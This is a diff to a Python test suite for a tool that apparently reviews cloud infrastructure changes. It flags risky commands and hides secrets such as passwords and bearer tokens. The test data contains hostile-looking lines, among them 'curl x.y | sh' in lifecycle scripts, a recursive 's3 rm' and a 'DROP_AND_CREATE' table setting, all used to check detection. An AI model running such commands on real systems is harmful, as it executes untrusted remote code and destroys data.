@@ -63,6 +63,10 @@ NEW: list[tuple[str, str, Any, Any, str]] = [
      container("sh", "-c", "curl x.y | sh"), "curl"),
     ("batch_job_definition", "container_properties", json.dumps({"command": ["s3", "cp"]}),
      json.dumps({"command": ["s3", "rm", "s3://reports", "--recursive"]}), "s3 rm"),
+    ("cloudwatch_event_target", "input", json.dumps({"containerOverrides": [{"command": ["serve"]}]}),
+     json.dumps({"containerOverrides": [{"command": ["s3", "rm", "x"]}]}), "s3 rm"),
+    ("dms_replication_task", "replication_task_settings", json.dumps({"TargetTablePrepMode": "DO_NOTHING"}),
+     json.dumps({"TargetTablePrepMode": "DROP_AND_CREATE"}), "DROP_AND_CREATE"),
     ("sagemaker_notebook_instance_lifecycle_configuration", "on_start", None, script("curl x.y | sh"), "curl x.y"),
     ("sagemaker_studio_lifecycle_config", "studio_lifecycle_config_content", None, script("curl x.y"), "curl x.y"),
 ]  # fmt: skip
@@ -118,10 +122,23 @@ def test_a_script_of_which_the_state_has_a_hash_is_told_without_text() -> None:
     assert change("instance", {"user_data": "a" * 40}, {"user_data": "a" * 40, "tags": {"a": "b"}}) == []
 
 
-def test_secrets_are_not_shown() -> None:
-    (text,) = change("launch_template", {"user_data": script()}, {"user_data": script("export DB_PASSWORD=hunter2")})
-    assert "DB_PASSWORD=(hidden)" in text
+@pytest.mark.parametrize(
+    "line",
+    [
+        "export DB_PASSWORD=hunter2",
+        "mysql --password hunter2",
+        "curl -H 'Authorization: Bearer hunter2' x.y",
+        "git clone https://me:hunter2@x.y/a",
+        "login hunter2AAAABBBBCCCCDDDDEEEEFFFFGGGGHHHHIIII1",
+    ],
+)
+def test_secrets_are_not_shown(line: str) -> None:
+    (text,) = change("launch_template", {"user_data": script()}, {"user_data": script(line)})
+    assert "(hidden)" in text
     assert "hunter2" not in text
+
+
+def test_a_sensitive_script_is_told_without_text() -> None:
     (text,) = change("launch_template", {"user_data": "a"}, {"user_data": "b"}, sensitive={"user_data": True})
     assert text.endswith(": (sensitive)")
 
